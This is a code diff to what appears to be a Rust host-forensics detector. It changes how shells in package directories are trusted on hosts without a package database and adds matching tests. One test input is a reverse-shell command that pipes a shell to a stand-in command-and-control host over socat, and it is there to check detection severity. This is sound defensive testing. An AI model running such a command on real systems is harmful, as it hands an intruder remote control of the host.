@@ -485,17 +485,25 @@ fn application_shell_out(
 
 /// Whether a process's executable is a shell a package vouches for ([`crate::parse::shell_line::SHELLS`]
 /// by the executable's own name, in a package directory, its package check a match): `argv[0]` is
-/// whatever the starter chose, so a dropped binary started as `sh -c "convert ..."` is no shell.
+/// whatever the starter chose, so a dropped binary started as `sh -c "convert ..."` is no shell. On a
+/// host with no package database the collector could read (no check names a package manager: Alpine's
+/// apk, a stripped image), nothing vouches for any program, and a shell in a package directory is taken
+/// as the host's.
 fn packaged_shell(ctx: &Context, p: &ProcessRecord) -> bool {
+    use minetrace_schemas::records::package::PackageVerdict;
     let Some(exe) = p.exe.as_ref().filter(|e| !e.deleted && !e.memfd) else {
         return false;
     };
     let path = exe.path.as_bytes();
+    let database = ctx.model.package_manager().is_some();
+    let vouched = match ctx.model.package_check(path) {
+        Some(c) if database => c.verdict == PackageVerdict::Match,
+        Some(c) => c.verdict != PackageVerdict::Mismatch,
+        None => !database,
+    };
     crate::parse::shell_line::SHELLS.contains(&support::basename(path))
         && support::under(ctx, PathClass::Package, path)
-        && ctx.model.package_check(path).is_some_and(|c| {
-            c.verdict == minetrace_schemas::records::package::PackageVerdict::Match
-        })
+        && vouched
 }
 
 /// Whether a program path is one the service's account could not have planted: in a system directory
@@ -838,6 +846,12 @@ mod tests {
         judged_with(child[0], child, &[], vec![])
     }
 
+    /// [`judged`] on a host whose package database the collector could not read: no check names a
+    /// package manager.
+    fn judged_without_package_database(child: &[&[u8]]) -> Option<Severity> {
+        judged_on(child[0], child, &[], vec![], None)
+    }
+
     /// [`judged`] for a child running `exe`, with `env` (`NAME=VALUE`) and these files in the snapshot.
     fn judged_with(
         exe: &[u8],
@@ -847,6 +861,26 @@ mod tests {
             minetrace_schemas::records::file::FileRecord,
             Option<Vec<u8>>,
         )>,
+    ) -> Option<Severity> {
+        judged_on(
+            exe,
+            child,
+            env,
+            files,
+            Some(minetrace_schemas::records::package::PackageManager::Dpkg),
+        )
+    }
+
+    /// [`judged_with`] with the package manager the checks name (`None`: no package database).
+    fn judged_on(
+        exe: &[u8],
+        child: &[&[u8]],
+        env: &[&[u8]],
+        files: Vec<(
+            minetrace_schemas::records::file::FileRecord,
+            Option<Vec<u8>>,
+        )>,
+        manager: Option<minetrace_schemas::records::package::PackageManager>,
     ) -> Option<Severity> {
         use minetrace_schemas::records::package::PackageVerdict;
         let iocs = Indicators::builtin();
@@ -869,8 +903,11 @@ mod tests {
             .into_iter()
             .map(|path| {
                 let mut c = fixture::not_owned(path, "running-exe");
-                c.verdict = PackageVerdict::Match;
-                c.package = Some("dash".into());
+                if manager.is_some() {
+                    c.verdict = PackageVerdict::Match;
+                    c.package = Some("dash".into());
+                }
+                c.manager = manager;
                 c
             })
             .collect();
@@ -960,6 +997,18 @@ mod tests {
             judged_with(b"/usr/bin/bash", convert, &[], vec![]),
             Some(Severity::Medium),
             "no package check vouches for it"
+        );
+        // Where the host has no package database to vouch for anything (Alpine's apk), a shell in a
+        // package directory is the host's: the command still decides.
+        let packaged_dir: &[&[u8]] = &[b"/usr/bin/bash", b"-c", b"convert a.jpg b.jpg"];
+        assert_eq!(
+            judged_without_package_database(packaged_dir),
+            Some(Severity::Low)
+        );
+        let revshell: &[&[u8]] = &[b"/usr/bin/bash", b"-c", b"socat tcp:c2.example:443 exec:sh"];
+        assert_eq!(
+            judged_without_package_database(revshell),
+            Some(Severity::Medium)
         );
         // `convert` found first on its search path in the web root: what runs is that one.
         let path: &[&[u8]] = &[b"PATH=/var/www/html/bin:/usr/bin:/bin"];
